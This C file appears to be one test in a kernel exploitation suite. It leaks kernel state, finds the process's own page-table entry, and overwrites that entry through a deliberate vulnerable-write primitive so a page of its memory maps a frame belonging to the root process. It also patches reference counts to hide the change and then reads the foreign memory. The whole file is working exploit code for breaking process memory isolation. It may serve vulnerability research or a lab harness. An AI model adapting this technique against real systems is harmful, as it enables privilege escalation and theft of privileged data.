/* Has a page table of its own show a page of root's. */
#include "attack.h"

#include <sys/mman.h>

enum { FRAME_BYTES = 8, ENTRIES = 512 };
#define ENTRY_FRAME 0xffffffffff000ul
#define ENTRY_WRITABLE 2ul
#define REFS_ONE (1ul << 32) /* the upper half of the first word of a frame's entry */

int main(void)
{
	struct bw_leak leak;
	struct attack_page theirs;
	uint64_t own, place;
	volatile char *pages = mmap(NULL, (size_t)3 * BW_PAGE_SIZE, PROT_READ | PROT_WRITE,
				    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	attack_leak(&leak);
	/* two pages with entries in one table; the second has none that a TLB has seen */
	if ((uintptr_t)pages / BW_PAGE_SIZE % ENTRIES == ENTRIES - 1) {
		pages += BW_PAGE_SIZE;
	}
	pages[0] = 0;
	own = attack_entry(&leak, leak.root, (uintptr_t)pages, &place);
	if (own == 0 || attack_list_pages(&leak, leak.root_first, &theirs, 1) == 0) {
		attack_skip("no page to be had");
	}
	own = (own & ~(ENTRY_FRAME | ENTRY_WRITABLE)) | (theirs.entry & ENTRY_FRAME);
	attack_say("frame 0x%lx is the first process's; the entry at 0x%lx shows it from now on",
		   attack_entry_frame(theirs.entry), place + sizeof(own));
	/* the books stay right: whoever frees the page later finds it as it was */
	attack_add(leak.frames + attack_entry_frame(theirs.entry) * FRAME_BYTES, REFS_ONE);
	attack_add(leak.nr_pages, 1);
	attack_check("vuln_write", bw_vuln_write(place + sizeof(own), own));
	attack_say("its first bytes: 0x%lx",
		   *(const volatile uint64_t *)(const volatile void *)&pages[BW_PAGE_SIZE]);
	return attack_finish();
}
